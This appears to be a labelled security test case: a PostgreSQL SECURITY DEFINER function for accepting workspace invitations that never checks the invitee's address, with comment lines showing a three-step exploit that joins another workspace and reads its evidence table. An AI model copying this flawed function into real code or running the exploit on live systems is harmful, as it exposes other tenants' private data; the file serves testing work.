-- A user joins another workspace by an invitation that was made out to somebody else: the address is not
-- compared.
-- about: accept_invitation, invitations, members, evidence
-- as: hf_proofroom_app
-- exploit: SET request.jwt.claims = '{"sub": "a1111111-0000-4000-8000-0000000000aa"}';
-- exploit: SELECT proof.accept_invitation('b2222222-0000-4000-8000-000000000002');
-- exploit: SELECT summary FROM proof.evidence;
-- shows: Road-secret failed test
CREATE FUNCTION proof.accept_invitation(p_workspace uuid) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$
DECLARE
  v_invitation proof.invitations;
BEGIN
  SELECT * INTO v_invitation FROM proof.invitations i
  WHERE i.workspace_id = p_workspace AND i.accepted_at IS NULL LIMIT 1;
  IF NOT FOUND THEN
    RAISE EXCEPTION 'no open invitation';
  END IF;
  INSERT INTO proof.members (workspace_id, user_id, role)
    VALUES (p_workspace, proof.uid(), v_invitation.role) ON CONFLICT DO NOTHING;
  UPDATE proof.invitations i SET accepted_at = now()
  WHERE i.workspace_id = p_workspace AND i.invitation_id = v_invitation.invitation_id;
END $$;
REVOKE EXECUTE ON FUNCTION proof.accept_invitation(uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION proof.accept_invitation(uuid) TO hf_proofroom_app;
